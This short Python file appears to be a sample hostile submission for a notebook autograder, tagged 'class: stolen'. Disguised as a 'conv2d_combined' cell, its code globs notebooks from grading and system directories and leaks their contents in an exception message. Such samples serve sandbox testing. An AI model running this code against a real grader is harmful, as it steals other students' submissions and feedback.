"""Submissions, reports and feedback of other students are read."""

# class: stolen

# %% conv2d_combined
import glob

places = ("/submitted", "/reports", "/autograded", "/feedback", "/home", "/root", "/srv", "/tmp", "..")
raise RuntimeError([open(path, "rb").read() for place in places for path in glob.glob(place + "/*/*/*.ipynb")])
